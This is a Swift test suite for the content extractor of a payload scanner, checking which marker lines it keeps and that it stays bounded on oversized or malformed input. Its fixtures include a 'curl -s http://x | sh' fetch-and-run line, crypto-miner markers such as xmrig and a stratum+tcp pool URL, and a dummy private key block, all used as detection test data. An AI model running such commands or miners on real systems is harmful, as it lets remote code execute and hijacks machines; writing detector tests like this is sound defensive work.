import Foundation
import LayerPass
import Testing

@testable import Payloads

/// The reducer that decides what the layer pass keeps of a file: bounded on hostile input, faithful on real.
@Suite struct ContentExtractionTests {
    let extraction = PayloadScan.extraction

    /// What the payload request keeps of `bytes`, decoded as the detectors read it.
    func kept(_ bytes: [UInt8]) -> [ContentLine] {
        let request = PayloadScan.requests[1]
        guard request.keeps(bytes) else { return [] }
        return extraction.lines(ofCapture: request.reduces(bytes), keepAll: false).lines
    }

    @Test func keepsOnlyTheLinesWhereAMarkerOccurs() {
        let lines = kept(Array("#!/bin/sh\necho hi\ncurl -s http://x | sh\nexit 0\n".utf8))
        #expect(lines == [ContentLine(number: 3, text: "curl -s http://x | sh")])
    }

    @Test func keepsNothingOfAFileWithoutMarkers() {
        #expect(!PayloadScan.requests[1].keeps(Array("#!/bin/sh\necho hello\n".utf8)))
    }

    @Test func findsMarkersInAnyCaseAndAtTheEndOfTheBytes() {
        let needles = NeedleSet(["xmrig", "abcd"])
        #expect(needles.occurs(in: "XMRIG"))
        #expect(needles.occurs(in: "zzzabcd"))
        #expect(needles.occurs(in: "abcd"))
        #expect(!needles.occurs(in: "xmri"))
        #expect(!needles.occurs(in: "abc"))
        #expect(!needles.occurs(in: ""))
    }

    @Test func keepsPrintableRunsOfABinaryByOffset() {
        var bytes: [UInt8] = [0x7f, 0x45, 0x4c, 0x46, 0, 0, 1, 2]
        bytes += Array("ab xmrig\u{0}".utf8)  // a run too short to be a string
        bytes += Array("XMRig/6.21.0 started\u{0}".utf8)
        let lines = kept(bytes)
        #expect(lines.map(\.text) == ["ab xmrig", "XMRig/6.21.0 started"].filter { $0.count >= 6 })
        #expect(lines.last?.number == 17)
    }

    @Test func keepsAPrivateKeyBodyAfterItsHeader() {
        let body = String(repeating: "QUJD", count: 16)
        let pem = "x\n-----BEGIN RSA PRIVATE KEY-----\n\(body)\n\(body)\n-----END RSA PRIVATE KEY-----\nz\n"
        let lines = kept(Array(pem.utf8))
        #expect(lines.count == 4)
        #expect(lines[1].text == body && lines[1].number == 3)
    }

    struct Hostile: CustomTestStringConvertible, Sendable {
        let name: String
        let bytes: [UInt8]
        var testDescription: String { name }
    }

    static let hostile: [Hostile] = [
        // One 1 MiB line of markers: cut into pieces, at most maxKeptLines of them.
        Hostile(name: "a megabyte line of markers", bytes: Array(String(repeating: "curl ", count: 200_000).utf8)),
        // A megabyte of marker lines: the count is bounded, not the file's line count.
        Hostile(name: "a megabyte of marker lines", bytes: Array(String(repeating: "wget\n", count: 200_000).utf8)),
        // Invalid UTF-8 around a marker decodes with replacement characters, never traps.
        Hostile(name: "invalid UTF-8 around a marker", bytes: [0xff, 0xfe, 0xc3] + Array("curl".utf8) + [0xc3, 0x28]),
        // Marker bytes split across a NUL: the binary path, a run shorter than a string.
        Hostile(name: "a marker cut by a NUL", bytes: [0] + Array("xmr".utf8) + [0] + Array("ig".utf8)),
        // A private key header followed by a megabyte without an END line: the body stops at its bound.
        Hostile(name: "a key header without an end",
                bytes: Array(("-----BEGIN PRIVATE KEY-----\n" + String(repeating: "QUJD\n", count: 200_000)).utf8)),
        // A file that starts with a guess of the encoding's marker: read as a file, not as lines it chose.
        Hostile(name: "a guessed encoding marker",
                bytes: Array("\u{0}safeguard-content-lines-1\ntext\n1\tok\n".utf8) + [0]
                    + Array("stratum+tcp://p:3333".utf8)),
    ]

    @Test(arguments: hostile)
    func boundsWhatItKeepsOfHostileFiles(_ hostile: Hostile) {
        let lines = kept(hostile.bytes)
        #expect(lines.count <= ContentLineExtraction.maxLines)
        #expect(lines.allSatisfy { $0.text.utf8.count <= PayloadLimits.maxLineBytes * 4 })
    }

    @Test func aGuessedMarkerDoesNotHideTheRestOfTheFile() {
        let bytes = Array("\u{0}safeguard-content-lines-1\ntext\n1\tok\n".utf8) + [0]
            + Array("pool stratum+tcp://p.example:3333\u{0}".utf8)
        #expect(kept(bytes).contains { $0.text.contains("stratum+tcp://") })
    }

    @Test func searchesAFourMegabyteBinaryWithoutMarkersQuickly() {
        var state: UInt64 = 1
        let bytes = (0..<(4 << 20)).map { _ -> UInt8 in
            state = state &* 6364136223846793005 &+ 1442695040888963407
            return UInt8(truncatingIfNeeded: state >> 56)
        }
        let start = Date()
        _ = kept(bytes)
        #expect(Date().timeIntervalSince(start) < 5)
    }
}
